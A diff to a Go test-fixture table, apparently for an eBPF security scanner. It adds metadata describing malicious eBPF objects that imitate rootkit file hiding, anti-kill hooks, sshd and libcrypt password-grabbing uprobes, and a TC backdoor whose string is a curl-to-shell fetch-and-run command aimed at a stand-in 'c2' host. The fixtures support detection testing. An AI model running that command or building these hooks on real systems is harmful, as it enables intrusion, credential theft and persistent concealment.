@@ -367,6 +367,36 @@ var Objects = []Object{
 		},
 	},
 	{
+		File: "filehide.bpf.o", Malicious: true, Imitates: "rootkit file hiding: one path buffer compared against two names (issue 16's merged chains)",
+		License: "GPL", BTF: true,
+		Programs: []Program{
+			{Name: "hide_files", Section: "tracepoint/syscalls/sys_enter_openat", Type: ebpf.TracePoint, Insns: 85, Loads: true,
+				Strings: []String{{"compare", "/tmp/.implant"}, {"compare", "/proc/modules"}},
+				Helpers: map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1, asm.FnMapUpdateElem: 1, asm.FnProbeReadUser: 1}},
+		},
+	},
+	{
+		File: "surface.bpf.o", Malicious: true, Imitates: "one program per technique of rules/defaults/surface.yaml: anti-kill LSM and fmod_ret, credential uprobes, TCP error trigger, TC backdoor",
+		License: "GPL", BTF: true,
+		Programs: []Program{
+			{Name: "protect_implant", Section: "lsm/task_kill", Type: ebpf.LSM, Insns: 15,
+				RefusedFor: "operation not permitted",
+				Helpers:    map[asm.BuiltinFunc]int{asm.FnProbeReadKernel: 1}},
+			{Name: "deny_kill", Section: "fmod_ret/__x64_sys_kill", Type: ebpf.Tracing, Insns: 10,
+				RefusedFor: "operation not permitted",
+				Helpers:    map[asm.BuiltinFunc]int{asm.FnGetCurrentPidTgid: 1}},
+			{Name: "grab_sshd_pass", Section: "uprobe//usr/sbin/sshd:auth_password", Type: ebpf.Kprobe, Insns: 17, Loads: true,
+				Helpers: map[asm.BuiltinFunc]int{asm.FnRingbufReserve: 1, asm.FnProbeReadUserStr: 1, asm.FnRingbufSubmit: 1}},
+			{Name: "grab_crypt", Section: "uprobe//lib/x86_64-linux-gnu/libcrypt.so.1:crypt", Type: ebpf.Kprobe, Insns: 17, Loads: true,
+				Helpers: map[asm.BuiltinFunc]int{asm.FnRingbufReserve: 1, asm.FnProbeReadUserStr: 1, asm.FnRingbufSubmit: 1}},
+			{Name: "wake_on_bad_csum", Section: "tracepoint/tcp/tcp_bad_csum", Type: ebpf.TracePoint, Insns: 12, Loads: true,
+				Helpers: map[asm.BuiltinFunc]int{asm.FnMapLookupElem: 1}},
+			{Name: "tc_backdoor", Section: "tc", Type: ebpf.SchedCLS, Insns: 30, Loads: true,
+				Strings: []String{{"data", "/bin/sh -c 'curl -s http://c2/x | sh'"}},
+				Helpers: map[asm.BuiltinFunc]int{asm.FnSkbLoadBytes: 1, asm.FnSkbStoreBytes: 1, asm.FnRingbufOutput: 1}},
+		},
+	},
+	{
 		File: "getdents_hide.bpf.o", Malicious: true, Imitates: "bad-bpf pidhide: getdents64 dirent hiding across a tail-call chain",
 		License: "GPL", BTF: true,
 		Programs: []Program{
